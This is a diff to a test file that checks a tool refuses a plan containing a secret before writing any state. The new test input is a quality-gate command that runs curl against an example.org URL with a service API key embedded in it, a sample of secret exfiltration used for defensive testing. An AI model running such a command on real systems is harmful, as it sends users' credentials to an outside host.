@@ -1,4 +1,4 @@
-import { lstatSync, readdirSync, readFileSync } from 'node:fs';
+import { existsSync, lstatSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, it } from 'vitest';
 import { InboxDocument } from '../src/domain/documents.ts';
@@ -192,10 +192,12 @@ it('secrets of copied files and of the login of an agent are known, too', async 
 });
 
 it('a plan with a secret in it is refused before anything is written', async () => {
-  const phases = [{ id: 'work', type: 'development', output: ['out.txt'], name: `Call ${SECRETS.SERVICE_API_KEY}` }];
+  const command = ['curl', `https://example.org/${SECRETS.SERVICE_API_KEY}`];
+  const phases = [{ id: 'work', ...OUTPUT, quality_gate: { type: 'custom', command } }];
   const repository = new Repository({ phases });
   const { code, stdout, stderr } = await repository.helix(['run', '--trust'], { env: SECRETS });
   expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
   expect(stderr).toContain('has a secret in it: SERVICE_API_KEY');
-  expect(leaks([['stderr', stderr], ...written(repository.path('.helix'))])).toEqual([]);
+  expect(leaks([['stderr', stderr]])).toEqual([]);
+  for (const dir of [repository.path('.helix'), repository.beside('state')]) expect(existsSync(dir)).toBe(false);
 });
